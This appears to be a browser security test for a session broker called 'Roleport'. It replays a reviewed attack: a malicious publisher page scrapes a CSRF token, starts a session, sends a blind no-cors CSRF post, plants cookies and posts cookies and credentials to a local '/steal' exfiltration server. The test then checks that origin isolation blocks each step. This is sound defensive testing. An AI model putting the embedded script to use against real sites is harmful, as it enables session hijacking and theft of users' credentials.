/**
 * The attack of the security review, replayed in a real browser (Chromium): a publisher's
 * content page scripts the broker — fetch `/sessions/new`, read the CSRF token, POST
 * `/sessions`, send the session credential away — and its upstream answers with
 * `Set-Cookie: roleport_session=…` to replace the viewer's broker cookie. With content on its
 * own origin (http://localhost:PORT, the broker on 127.0.0.1) every step fails: the viewer's
 * broker cookie is unchanged, no session was started, nothing useful leaves.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../helpers/browser.ts';
import { signInInBrowser } from './browser-sign-in.ts';
import { freePort } from '../helpers/ports.ts';
import { DS, startSessionsEnv, type SessionsEnv } from '../integration/sessions-fixtures.ts';

interface Exfiltration {
  url: string;
  server: Server;
  reports: Array<Record<string, unknown>>;
}

/** Where the attacker's script sends what it got. */
async function startExfiltration(): Promise<Exfiltration> {
  const reports: Exfiltration['reports'] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      if (request.method === 'POST') reports.push(JSON.parse(body) as Record<string, unknown>);
      response.setHeader('access-control-allow-origin', '*');
      response.end('ok');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, reports };
}

/** The publisher's content: the review's script, and the cookie its server plants. */
function maliciousUpstream(brokerUrl: string, exfiltrationUrl: string): Promise<{ url: string; server: Server }> {
  const script = `
(async () => {
  const report = { origin: location.origin, cookies: document.cookie };
  try {
    const page = await fetch(${JSON.stringify(`${brokerUrl}/sessions/new`)}, { credentials: 'include' });
    report.sessionsNewStatus = page.status;
    const text = await page.text();
    report.csrf = (/name="csrf" value="([^"]+)"/.exec(text) || [])[1] || null;
  } catch (error) {
    report.readError = String(error);
  }
  try {
    const body = new URLSearchParams({ csrf: report.csrf || 'guessed', roles: ${JSON.stringify(DS)}, token_source: 'broker' });
    const started = await fetch(${JSON.stringify(`${brokerUrl}/sessions`)}, { method: 'POST', credentials: 'include', body });
    const text = await started.text();
    report.credential = (/rps_[\\w.-]+/.exec(text) || [])[0] || null;
  } catch (error) {
    report.postError = String(error);
    // Blind: a no-cors post still goes out; whatever it did, its answer cannot be read.
    await fetch(${JSON.stringify(`${brokerUrl}/sessions`)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ csrf: 'guessed', roles: ${JSON.stringify(DS)} }) }).catch(() => {});
  }
  document.cookie = 'roleport_session=set-by-script; path=/';
  await fetch(${JSON.stringify(`${exfiltrationUrl}/steal`)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
  document.title = 'attack finished';
})();`;
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.setHeader('set-cookie', ['roleport_session=planted-by-upstream; Path=/', 'roleport_viewer=planted; Path=/']);
    response.end(`<!doctype html><title>quarterly report</title><h1>Quarterly report</h1><script>${script}</script>`);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server })));
}

describe('a publisher\'s page cannot act as its viewer (Chromium)', () => {
  let env: SessionsEnv;
  let browser: Browser;
  let exfiltration: Exfiltration;
  let upstream: { url: string; server: Server };
  let contentUrl: string;
  let guid: string;

  before(async () => {
    const contentPort = await freePort();
    contentUrl = `http://localhost:${contentPort}`;
    env = await startSessionsEnv({ config: { content: { origin: contentUrl, listen: `127.0.0.1:${contentPort}`, upstreamAllowList: ['127.0.0.0/8'] } } });
    exfiltration = await startExfiltration();
    upstream = await maliciousUpstream(env.url, exfiltration.url);
    guid = (await env.broker.app.services.integrations.content.create({ name: 'quarterly-report', upstreamUrl: upstream.url, actor: { name: 'publisher' } })).guid;
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await env?.close();
    for (const server of [exfiltration?.server, upstream?.server]) await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  });

  test('the script gets no CSRF token and no credential, starts no session, and the broker cookie is unchanged', async () => {
    const context = await browser.newContext();
    try {
      const page = await signInInBrowser(context, env, 'alice');
      assert.equal(await page.locator('#current-user').textContent(), 'alice');
      const brokerCookie = (await context.cookies(env.url)).find((cookie) => cookie.name === 'roleport_session');
      assert.ok(brokerCookie, 'alice is signed in at the broker');
      const sessionsBefore = (await env.broker.app.services.sessions.list({ userName: 'alice', by: { name: 'test', admin: true } })).length;

      // alice opens the published content: handed over to the content origin, where the script runs.
      await page.goto(`${contentUrl}/content/${guid}/`);
      await page.waitForFunction('document.title === "attack finished"');
      assert.equal(new URL(page.url()).origin, contentUrl, 'the content runs on its own origin');
      await waitFor(() => exfiltration.reports.length > 0);

      const report = exfiltration.reports[0]!;
      assert.equal(report['origin'], contentUrl);
      assert.equal(report['csrf'] ?? null, null, 'no CSRF token was read');
      assert.equal(report['credential'] ?? null, null, 'no session credential was read');
      assert.match(String(report['readError']), /Failed to fetch/, 'the broker\'s pages are cross-origin to the content');
      assert.doesNotMatch(String(report['cookies']), /roleport_/, 'no Roleport cookie is visible to the content');

      const after = (await context.cookies(env.url)).find((cookie) => cookie.name === 'roleport_session');
      assert.deepEqual(after, brokerCookie, 'the viewer\'s broker cookie is unchanged');
      const contentCookies = await context.cookies(`${contentUrl}/content/${guid}/`);
      assert.equal(contentCookies.find((cookie) => cookie.name === 'roleport_viewer')?.httpOnly, true, 'the content origin\'s own cookie, not the planted one');
      assert.ok(!contentCookies.some((cookie) => cookie.value.startsWith('planted')), 'the upstream\'s Set-Cookie for Roleport names was dropped');
      assert.equal((await env.broker.app.services.sessions.list({ userName: 'alice', by: { name: 'test', admin: true } })).length, sessionsBefore, 'no session was started');

      // alice is still signed in at the broker, with the same session.
      await page.goto(`${env.url}/`);
      assert.equal(await page.locator('#current-user').textContent(), 'alice');
    } finally {
      await context.close();
    }
  });
});

async function waitFor(condition: () => boolean, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error('timed out waiting for the exfiltration report');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
